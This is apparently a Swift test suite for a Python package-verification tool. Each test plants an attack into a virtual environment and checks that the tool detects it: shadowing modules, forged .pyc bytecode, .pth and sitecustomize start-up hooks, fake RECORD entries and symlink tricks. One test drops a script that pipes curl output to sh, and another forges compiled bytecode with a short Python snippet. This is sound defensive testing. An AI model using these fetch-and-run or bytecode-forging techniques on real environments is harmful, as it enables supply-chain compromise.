import Foundation
import Testing
import Verification

/// The attacker who controls the files of the environment (site-packages, `bin/`, `include/`):
/// docs/THREAT-MODEL.md, "site-packages". Each test plants one variant of an attack class into a
/// real venv that real pip installed from our own index, runs the real binary, and asserts from
/// `--format json` which check failed and how. The clean baseline of each scenario verifies (see
/// EndToEndTests), so every failure here is the attack's.
@Suite("adversarial: site-packages")
struct SitePackagesAttackTests {
    // MARK: shadowed top-level names (issue 9, attack 4)

    /// Entries that make `import datatool` load something other than the verified `datatool.py`,
    /// or that run at start-up under its name.
    static let shadowsOfAModule: [(String, String)] = [
        ("datatool/__init__.py", "datatool"),  // a regular package wins over a module
        ("datatool/helper.py", "datatool"),  // a namespace portion under the name
        ("datatool.cpython-311-x86_64-linux-gnu.so", "datatool.cpython-311-x86_64-linux-gnu.so"),  // extensions come first
        ("datatool.abi3.so", "datatool.abi3.so"),
        ("datatool.pyc", "datatool.pyc"),  // sourceless bytecode
        ("datatool.pth", "datatool.pth"),  // a start-up hook of that name
    ]

    @Test(
        "an importable entry shadowing a verified module fails the shadowing check, also when verified by name",
        arguments: shadowsOfAModule)
    func shadowedModule(planted: String, entry: String) async throws {
        try await Scenario.with(packages: ["datatool"]) { scenario in
            try scenario.plant(planted)
            let json = try await scenario.verifyJSON(["datatool"])
            json.expect("datatool", .shadowing, .fail, scenario.site + "/" + entry)
            #expect(json.package("datatool")?.files.shadowing == [scenario.site + "/" + entry])
        }
    }

    @Test("a link named like a verified module, to a package elsewhere, fails the shadowing check")
    func shadowingLink() async throws {
        try await Scenario.with(packages: ["datatool"]) { scenario in
            let elsewhere = scenario.root + "/evil/datatool"
            try FileManager.default.createDirectory(atPath: elsewhere, withIntermediateDirectories: true)
            try "raise SystemExit('attacker code ran')\n".write(toFile: elsewhere + "/__init__.py", atomically: true, encoding: .utf8)
            try FileManager.default.createSymbolicLink(atPath: scenario.site + "/datatool", withDestinationPath: elsewhere)
            let json = try await scenario.verifyJSON(["datatool"])
            json.expect("datatool", .shadowing, .fail, scenario.site + "/datatool")
        }
    }

    @Test("a module beside a verified package directory fails the shadowing check")
    func shadowedPackage() async throws {
        try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
            try scenario.plant("dotted_pkg.py")
            let json = try await scenario.verifyJSON(["dotted.pkg"])
            json.expect("Dotted.Pkg", .shadowing, .fail, "dotted_pkg.py")
        }
    }

    @Test("a shadowing package claimed by another distribution's installed RECORD is still a finding, naming it")
    func shadowingClaimedByAFakeDistribution() async throws {
        try await Scenario.with(packages: ["datatool"]) { scenario in
            try scenario.plant("datatool/__init__.py")
            try scenario.plantFakeDistribution("zzfake", claiming: ["datatool/__init__.py"])
            let json = try await scenario.verifyJSON(["datatool"])
            json.expect("datatool", .shadowing, .fail, "1 shadowing: " + scenario.site + "/datatool")
            #expect(json.package("datatool")?.files.shadowing == [scenario.site + "/datatool"])
            // The claimant is named in the file's note (JSON) and on its line (-v).
            #expect(
                json.package("datatool")?.files.notes[scenario.site + "/datatool"]
                    == "shadows the verified datatool: importable under the same name (claimed by zzfake-1.0)")
            let lines = try await scenario.wheeltrust(["verify", "datatool", "-v"])
            #expect(
                lines.stdout.contains("shadows the verified datatool: importable under the same name (claimed by zzfake-1.0)"),
                "\(lines.output)")
        }
    }

    // MARK: unverified RECORDs vouching for files (issue 9, attack 5)

    @Test("a fake .dist-info claiming a file inside a verified package does not vouch for it")
    func fakeDistributionVouches() async throws {
        try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
            // `dotted_pkg/core/__init__.py` shadows the verified `dotted_pkg/core.py`.
            try scenario.plant("dotted_pkg/core/__init__.py")
            try scenario.plantFakeDistribution("zzfake", claiming: ["dotted_pkg/core/__init__.py"])
            let json = try await scenario.verifyJSON(["dotted.pkg"])
            json.expect("Dotted.Pkg", .unexpectedFiles, .fail, "dotted_pkg/core/__init__.py", "zzfake-1.0")
        }
    }

    @Test("a verified distribution's installed RECORD cannot vouch for a file its verified wheel does not list")
    func verifiedNeighbourVouches() async throws {
        try await Scenario.with(packages: ["dotted.pkg", "clitool"]) { scenario in
            try scenario.plant("dotted_pkg/backdoor.py")
            try scenario.appendToInstalledRecord(of: "clitool", "dotted_pkg/backdoor.py,,\n")
            let json = try await scenario.verifyJSON(["dotted.pkg"])
            json.expect("Dotted.Pkg", .unexpectedFiles, .fail, "dotted_pkg/backdoor.py", "clitool-2.0")
            // The same through --all: clitool itself is verified, and still does not own it.
            let all = try await scenario.verifyJSON(["--all"])
            all.expect("Dotted.Pkg", .unexpectedFiles, .fail, "dotted_pkg/backdoor.py", "clitool-2.0")
        }
    }

    @Test("a file in a shared directory is owned by the verified wheel that lists it, by name and with --all")
    func sharedDirectoryOwnedByAVerifiedWheel() async throws {
        try await Scenario.with(packages: ["dotted.pkg", "dotted-plugin"]) { scenario in
            let byName = try await scenario.verifyJSON(["dotted.pkg"])
            byName.expect("Dotted.Pkg", .unexpectedFiles, .pass)
            #expect(byName.result.status == 0, "\(byName.result.output)")
            let all = try await scenario.verifyJSON(["--all"])
            #expect(all.result.status == 0, "\(all.result.output)")
        }
    }

    @Test("a tampered file in a shared directory is owned by nobody: the claimant's verified RECORD does not match it")
    func sharedDirectoryTampered() async throws {
        try await Scenario.with(packages: ["dotted.pkg", "dotted-plugin"]) { scenario in
            try scenario.tamper(scenario.site + "/dotted_pkg/plugin.py")
            let json = try await scenario.verifyJSON(["dotted.pkg"])
            json.expect("Dotted.Pkg", .unexpectedFiles, .fail, "dotted_pkg/plugin.py", "dotted_plugin-0.1")
        }
    }

    @Test("a tampered .pyc of a verified neighbour's module in a shared directory fails the bytecode check, by name too")
    func sharedDirectoryTamperedBytecode() async throws {
        try await Scenario.with(packages: ["dotted.pkg", "dotted-plugin"]) { scenario in
            let cache = scenario.site + "/dotted_pkg/__pycache__"
            let name = try #require(
                try FileManager.default.contentsOfDirectory(atPath: cache).first { $0.hasPrefix("plugin.") && $0.hasSuffix(".pyc") })
            let pyc = cache + "/" + name
            // The header kept (the loader accepts it), the code replaced.
            let script = """
                import marshal, sys
                data = open(sys.argv[1], "rb").read()
                code = compile("print('attacker code ran')\\nNAME = 'plugin'\\n", "plugin.py", "exec")
                open(sys.argv[1], "wb").write(data[:16] + marshal.dumps(code))
                """
            let forged = try await TestProcess.run(TestProcess.python3, ["-c", script, pyc])
            try #require(forged.status == 0, "\(forged.output)")
            let live = try await TestProcess.run(scenario.python, ["-c", "import dotted_pkg.plugin"])
            #expect(live.stdout.contains("attacker code ran"), "the forged bytecode runs: \(live.output)")
            let byName = try await scenario.verifyJSON(["dotted.pkg"])
            byName.expect("Dotted.Pkg", .bytecode, .fail, pyc)
            #expect(byName.package("Dotted.Pkg")?.files.modified == [pyc], "\(byName.result.output)")
            let all = try await scenario.verifyJSON(["--all", "--check-bytecode"])
            all.expect("Dotted.Pkg", .bytecode, .fail, pyc)
            all.expect("dotted-plugin", .bytecode, .fail, pyc)
        }
    }

    @Test("a shared-directory claimant that is excluded owns nothing")
    func sharedDirectoryClaimantExcluded() async throws {
        try await Scenario.with(packages: ["dotted.pkg", "dotted-plugin"]) { scenario in
            let json = try await scenario.verifyJSON(["--all", "--exclude", "dotted-plugin"])
            json.expect("Dotted.Pkg", .unexpectedFiles, .fail, "dotted_pkg/plugin.py", "dotted_plugin-0.1")
        }
    }

    @Test(
        "a start-up hook claimed only by an excluded distribution's installed RECORD fails --all, naming it",
        arguments: ["zz_evil.pth", "sitecustomize.py", "usercustomize.py", "sitecustomize/__init__.py"])
    func excludedDistributionVouchesForAHook(hook: String) async throws {
        try await Scenario.with(packages: ["dotted.pkg", "clitool"]) { scenario in
            try scenario.plant(hook, "import os\n")
            try scenario.appendToInstalledRecord(of: "clitool", "\(hook),,\n")
            let result = try await scenario.wheeltrust(["verify", "--all", "--exclude", "clitool", "--format", "json"])
            let json = try ReportJSON(result)
            #expect(result.status == 1, "\(result.output)")
            let finding = json.report.unexpected.first { $0.path == scenario.site + "/" + hook }
            #expect(finding?.detail.contains("start-up hook") == true, "\(json.report.unexpected)")
            #expect(finding?.detail.contains("clitool-2.0") == true, "the claimant is named: \(json.report.unexpected)")
        }
    }

    @Test("a file inside a verified package claimed only by an excluded distribution fails")
    func excludedDistributionVouchesInsideAVerifiedPackage() async throws {
        try await Scenario.with(packages: ["dotted.pkg", "clitool"]) { scenario in
            try scenario.plant("dotted_pkg/evil.py")
            try scenario.appendToInstalledRecord(of: "clitool", "dotted_pkg/evil.py,,\n")
            let json = try await scenario.verifyJSON(["--all", "--exclude", "clitool"])
            json.expect("Dotted.Pkg", .unexpectedFiles, .fail, "dotted_pkg/evil.py", "clitool-2.0")
        }
    }

    // MARK: hostile installed RECORDs

    @Test("sizes in an installed RECORD that add up past Int64 do not crash the run (it is only a hint)")
    func installedRecordSizesOverflow() async throws {
        try await Scenario.with(packages: ["datatool", "clitool"]) { scenario in
            // Each size is valid (18 digits); twelve of them sum past 2^63.
            let rows = (1...12).map { "zz\($0).py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,999999999999999999\n" }
            try scenario.appendToInstalledRecord(of: "datatool", rows.joined())
            for arguments in [["datatool"], ["--all"]] {
                let result = try await scenario.wheeltrust(["verify"] + arguments + ["--format", "json"])
                #expect(result.status == 0, "\(arguments): \(result.output)")
                let json = try ReportJSON(result)
                #expect(json.package("datatool")?.status == .verified, "\(arguments): \(result.output)")
            }
        }
    }

    // MARK: walks that cannot see everything (issue 9, attack 9)

    @Test("a file nested deeper than the walk's limit fails, it is never silently fine")
    func tooDeep() async throws {
        try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
            let deep = (0..<66).map { _ in "a" }.joined(separator: "/")
            try scenario.plant("dotted_pkg/\(deep)/evil.py")
            let json = try await scenario.verifyJSON(["dotted.pkg"])
            json.expect("Dotted.Pkg", .unexpectedFiles, .fail, "dotted_pkg/a/a")
            #expect(json.package("Dotted.Pkg")?.files.unexpected.contains { $0.hasPrefix(scenario.site + "/dotted_pkg/a/a/") } == true)
        }
    }

    @Test("a directory whose name is not UTF-8 does not hide what it holds", arguments: [[0xFF], [0x66, 0x6F, 0xC3], [0xC0, 0xAF]])
    func notUTF8Directory(name: [UInt8]) async throws {
        try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
            try scenario.makeRawDirectory(in: scenario.site + "/dotted_pkg", name: name, file: "evil.py", contents: "import os\n")
            let json = try await scenario.verifyJSON(["dotted.pkg"])
            json.expect("Dotted.Pkg", .unexpectedFiles, .fail, "1 unexpected: \(scenario.site)/dotted_pkg/")
            let unexpected = json.package("Dotted.Pkg")?.files.unexpected ?? []
            #expect(unexpected.count == 1 && unexpected.allSatisfy { $0.hasPrefix(scenario.site + "/dotted_pkg/") }, "\(unexpected)")
            #expect(unexpected.contains { $0.contains("\\x") }, "the name is shown escaped: \(unexpected)")
            // And the environment scan sees it too (at the site-packages root).
            try scenario.makeRawDirectory(in: scenario.site, name: name, file: "evil.py", contents: "import os\n")
            let all = try await scenario.verifyJSON(["--all"])
            #expect(all.result.status == 1)
            #expect(
                all.report.unexpected.contains { $0.detail == "a name that is not UTF-8" && $0.path.hasPrefix(scenario.site + "/") },
                "\(all.report.unexpected)")
        }
    }

    // MARK: paths are bytes (NFC and NFD are different files)

    @Test("an NFD twin of a verified NFC file is unexpected, never taken for it")
    func unicodeTwin() async throws {
        try await Scenario.with(packages: ["unicode-pkg"]) { scenario in
            let nfc = "unicode_pkg/caf\u{E9}.py", nfd = "unicode_pkg/cafe\u{301}.py"
            #expect(nfc == nfd, "Swift's String equality is canonical: the class this test guards")
            try scenario.plant(nfd, "VALUE = 'attacker'\n")
            let json = try await scenario.verifyJSON(["unicode-pkg"])
            json.expect("unicode-pkg", .unexpectedFiles, .fail, "1 unexpected: ")
            #expect(
                json.failing("unicode-pkg").map(\.name) == [.unexpectedFiles], "the verified NFC file still matches: \(json.result.output)")
            let unexpected = json.package("unicode-pkg")?.files.unexpected ?? []
            #expect(unexpected.contains { Array($0.utf8) == Array((scenario.site + "/" + nfd).utf8) }, "\(unexpected)")
            // The twin replacing the verified file: the NFC file is missing.
            try FileManager.default.removeItem(atPath: scenario.site + "/" + nfc)
            let replaced = try await scenario.verifyJSON(["unicode-pkg"])
            replaced.expect("unicode-pkg", .installedFiles, .fail, "1 missing: ")
            #expect(
                replaced.package("unicode-pkg")?.files.missing.map { Array($0.utf8) } == [Array((scenario.site + "/" + nfc).utf8)],
                "\(replaced.result.output)")
        }
    }

    // MARK: symbolic links

    @Test("a package directory replaced by a link to a pristine copy fails")
    func linkedPackageDirectory() async throws {
        try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
            let copy = scenario.root + "/pristine-dotted_pkg"
            try FileManager.default.moveItem(atPath: scenario.site + "/dotted_pkg", toPath: copy)
            try FileManager.default.createSymbolicLink(atPath: scenario.site + "/dotted_pkg", withDestinationPath: copy)
            let json = try await scenario.verifyJSON(["dotted.pkg"])
            json.expect("Dotted.Pkg", .installedFiles, .fail, scenario.site + "/dotted_pkg")
        }
    }

    @Test("a subdirectory replaced by a link fails as reached through a link")
    func linkedSubdirectory() async throws {
        try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
            let copy = scenario.root + "/pristine-data"
            try FileManager.default.moveItem(atPath: scenario.site + "/dotted_pkg/data", toPath: copy)
            try FileManager.default.createSymbolicLink(atPath: scenario.site + "/dotted_pkg/data", withDestinationPath: copy)
            let json = try await scenario.verifyJSON(["dotted.pkg"])
            json.expect("Dotted.Pkg", .installedFiles, .fail, "dotted_pkg/data/table.json")
            #expect(
                json.package("Dotted.Pkg")?.files.notes[scenario.site + "/dotted_pkg/data/table.json"] == "reached through a symbolic link")
            let lines = try await scenario.wheeltrust(["verify", "dotted.pkg", "-v"])
            #expect(lines.stdout.contains("reached through a symbolic link"), "\(lines.output)")
        }
    }

    // MARK: the installed RECORD redirecting a check (issue 9, attack 10)

    @Test("the installed RECORD cannot redirect a header's check to a pristine copy")
    func installedRecordRedirectsAHeader() async throws {
        try await Scenario.with(packages: ["datatool"]) { scenario in
            let header = scenario.venv + "/include/site/python3.11/datatool/datatool.h"
            let pristine = scenario.venv + "/include/aaa/datatool.h"
            try FileManager.default.createDirectory(atPath: scenario.venv + "/include/aaa", withIntermediateDirectories: true)
            try FileManager.default.copyItem(atPath: header, toPath: pristine)
            try scenario.tamper(header)
            try scenario.editInstalledRecord(of: "datatool") { text in
                text.replacingOccurrences(
                    of: "../../../include/site/python3.11/datatool/datatool.h", with: "../../../include/aaa/datatool.h")
            }
            let json = try await scenario.verifyJSON(["datatool"])
            json.expect("datatool", .installedFiles, .fail, "modified", header)
        }
    }

    @Test("a pristine header in another spelling of the project's directory does not hide the edited one")
    func headerInAnotherSpelling() async throws {
        try await Scenario.with(packages: ["datatool"]) { scenario in
            let base = scenario.venv + "/include/site/python3.11"
            try FileManager.default.createDirectory(atPath: base + "/DataTool", withIntermediateDirectories: true)
            try FileManager.default.copyItem(atPath: base + "/datatool/datatool.h", toPath: base + "/DataTool/datatool.h")
            try scenario.tamper(base + "/datatool/datatool.h")
            let json = try await scenario.verifyJSON(["datatool"])
            json.expect("datatool", .installedFiles, .fail, "modified", base + "/datatool/datatool.h")
        }
    }

    // MARK: the venv's scripts directory

    @Test("a file dropped into the venv's bin/ that no distribution accounts for fails --all")
    func droppedScript() async throws {
        try await Scenario.with(packages: ["clitool"]) { scenario in
            let clean = try await scenario.verifyJSON(["--all"])
            #expect(clean.result.status == 0, "the venv's own files are no finding: \(clean.result.output)")
            let dropped = scenario.venv + "/bin/clitool-helper"
            try "#!/bin/sh\nexec curl -s http://127.0.0.1:9/ | sh\n".write(toFile: dropped, atomically: true, encoding: .utf8)
            let json = try await scenario.verifyJSON(["--all"])
            #expect(json.result.status == 1, "\(json.result.output)")
            #expect(json.report.unexpected.map(\.path) == [dropped], "\(json.report.unexpected)")
        }
    }
}
